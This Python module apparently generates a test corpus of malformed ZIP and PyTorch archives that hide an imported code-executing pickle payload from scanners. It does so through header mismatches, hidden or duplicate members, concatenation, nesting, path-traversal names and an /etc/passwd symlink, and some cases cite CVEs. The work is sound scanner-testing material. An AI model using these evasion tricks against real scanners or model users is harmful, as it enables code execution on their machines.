"""Archives that say one thing to a scanner and another to a loader."""

import io
import struct
import zipfile

from .assembly import SYSTEM_0
from .torch import STATE, archive

LOCAL, CENTRAL, END = b"PK\x03\x04", b"PK\x01\x02", b"PK\x05\x06"


def make(corpus):
    hostile, good = archive(STATE + SYSTEM_0 + b"0."), archive(STATE + b".")
    add = lambda n, d, why, s="": corpus.found("zip-confusion", n, bytes(d), why, s)

    def patch(raw, signature, offset, value, nth=0):
        at = -1
        for _ in range(nth + 1):
            at = raw.find(signature, at + 1)
        return raw[:at + offset] + value + raw[at + offset + len(value):]

    for bit in (0x1, 0x20, 0x40, 0x2000):
        add(f"flag-{bit:04x}-local.pt", patch(hostile, LOCAL, 6, struct.pack("<H", bit)), f"flag bit {bit:#x} in the local header", "CVE-2025-1945")
        add(f"flag-{bit:04x}-central.pt", patch(hostile, CENTRAL, 8, struct.pack("<H", bit)), f"flag bit {bit:#x} in the directory", "CVE-2025-1945")
    add("crc.pt", patch(hostile, CENTRAL, 16, b"\0\0\0\0"), "a wrong checksum in the directory", "CVE-2025-10156")
    add("crc-both.pt", patch(patch(hostile, CENTRAL, 16, b"\1\2\3\4"), LOCAL, 14, b"\1\2\3\4"), "a wrong checksum in both", "CVE-2025-10156")
    add("name-local.pt", hostile.replace(b"archive/data.pkl", b"archive/data.pk_", 1), "another name in the local header", "CVE-2025-1944")
    at = hostile.rfind(b"archive/data.pkl")
    add("name-central.pt", hostile[:at] + b"archive/data.txt" + hostile[at + 16:], "another name in the directory", "CVE-2025-1889")
    add("method-local.pt", patch(hostile, LOCAL, 8, b"\x08\0"), "another method in the local header")
    add("method-unknown.pt", patch(patch(hostile, LOCAL, 8, b"\x63\0"), CENTRAL, 10, b"\x63\0"), "a method nobody knows")
    add("size-central.pt", patch(hostile, CENTRAL, 24, struct.pack("<I", 3)), "another size in the directory")
    add("size-local.pt", patch(hostile, LOCAL, 22, struct.pack("<I", 3)), "another size in the local header")
    add("count.pt", patch(hostile, END, 10, b"\x01\0"), "fewer members than there are")
    add("offset.pt", patch(hostile, CENTRAL, 42, struct.pack("<I", 5)), "an offset that leads nowhere")
    add("comment.pt", patch(good, END, 20, struct.pack("<H", len(hostile))) + hostile, "an archive in the comment of another")
    add("two-ends.pt", good + hostile[hostile.find(END):], "two end records")
    add("concatenated.pt", good + hostile, "an archive behind another")
    add("prefix.pt", b"#!/bin/sh\n" + hostile, "a script before the archive")
    add("truncated-directory.pt", hostile[:hostile.find(CENTRAL) + 60], "no end record; stream readers read on")
    hidden = LOCAL + struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 0, 0, len(SYSTEM_0) + 1, len(SYSTEM_0) + 1, 16, 0) + b"archive/data.pkl" + SYSTEM_0 + b"."
    at = good.find(CENTRAL)
    grown = good[:at] + hidden + good[at:]
    add("hidden.pt", patch(grown, END, 16, struct.pack("<I", at + len(hidden))), "a member that only stream readers see")
    filler = b"\x90" * 500
    add("gap.pt", patch(good[:at] + filler + good[at:], END, 16, struct.pack("<I", at + len(filler))), "bytes between the records")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("archive/data.pkl", STATE + b".")
        file.writestr("archive/data/0", b"\0" * 16)
        file.writestr("archive/data.pkl", SYSTEM_0 + b".")
    add("duplicate.pt", out.getvalue(), "two members of one name")
    for label, member in {"absolute": "/tmp/x", "parent": "../../x", "drive": "C:x", "backslash": "..\\x", "nul": "archive/data.pkl\0.txt", "newline": "a\nb"}.items():
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as file:
            info = zipfile.ZipInfo("placeholder")
            info.filename = member
            file.writestr(info, b"x")
        add(f"name-{label}.zip", out.getvalue(), "a name that leaves the archive or ends early")
    unicode_path = struct.pack("<HHBI", 0x7075, 5 + 16, 1, __import__("zlib").crc32(b"archive/data.txt")) + b"archive/data.pkl"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        info = zipfile.ZipInfo("archive/data.txt")
        info.extra = unicode_path
        file.writestr(info, SYSTEM_0 + b".")
    add("unicode-path.pt", out.getvalue(), "a second name in an extra field")
    link = io.BytesIO()
    with zipfile.ZipFile(link, "w") as file:
        info = zipfile.ZipInfo("latest")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        file.writestr(info, "/etc/passwd")
    add("link.zip", link.getvalue(), "a symbolic link to a file of the host")
    for label, (method, level) in {"deflate": (zipfile.ZIP_DEFLATED, 9), "bzip2": (zipfile.ZIP_BZIP2, 9), "lzma": (zipfile.ZIP_LZMA, None)}.items():
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", method, compresslevel=level) as file:
            file.writestr("weights.pkl", SYSTEM_0 + b".")
        add(f"compressed-{label}.zip", out.getvalue(), f"a pickle compressed by {label}")
    nested = SYSTEM_0 + b"."
    for depth in range(4):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as file:
            file.writestr("inner.zip" if depth else "data.pkl", nested)
        nested = out.getvalue()
    corpus.malicious("zip-confusion", "nested.zip", nested, "a pickle four archives deep")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for number in range(3000):
            file.writestr(f"m/{number}.txt", b"")
        file.writestr("m/x.pkl", SYSTEM_0 + b".")
    corpus.malicious("zip-confusion", "many.zip", out.getvalue(), "a pickle behind 3,000 members")
